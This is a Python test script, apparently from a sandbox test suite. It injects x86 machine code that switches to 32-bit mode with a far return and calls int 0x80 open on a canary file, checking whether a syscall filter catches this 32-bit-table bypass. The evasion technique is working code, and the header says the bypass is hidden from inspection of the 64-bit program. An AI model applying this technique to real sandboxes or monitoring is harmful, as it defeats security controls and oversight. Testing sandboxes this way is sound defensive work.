# SPDX-License-Identifier: Apache-2.0
# tries: return far into 32-bit code, and open from there (S41)
# proof: changed
# needs: i386
# expect: none
#
# Code segment 0x23 makes the processor itself a 32-bit one: no instruction of the 64-bit program
# asks for the other table, so that a look at the code finds nothing.
import ctypes
import os
import struct

I386_OPEN, I386_EXIT = 5, 1
PROT_RWX, MAP_PRIVATE_ANONYMOUS_32BIT = 7, 0x62

libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]

page = libc.mmap(None, 4096, PROT_RWX, MAP_PRIVATE_ANONYMOUS_32BIT, -1, 0)
path, narrow = page + 2048, page + 1024
wide = b''.join([
    b'\x68\x23\x00\x00\x00',                                # push 0x23
    b'\x68', struct.pack('<I', narrow),                     # push narrow
    b'\x48\xcb',                                            # far return
])
code = b''.join([
    b'\xbb', struct.pack('<I', path),
    b'\xb9', struct.pack('<I', os.O_WRONLY | os.O_TRUNC),
    b'\xb8', struct.pack('<I', I386_OPEN), b'\xcd\x80',
    b'\x31\xdb', b'\xb8', struct.pack('<I', I386_EXIT), b'\xcd\x80',
])
ctypes.memmove(page, wide, len(wide))
ctypes.memmove(narrow, code, len(code))
ctypes.memmove(path, b'@CANARY@/file\0', len(b'@CANARY@/file\0'))
pid = os.fork()
if pid == 0:
    ctypes.CFUNCTYPE(None)(page)()
os.waitpid(pid, 0)
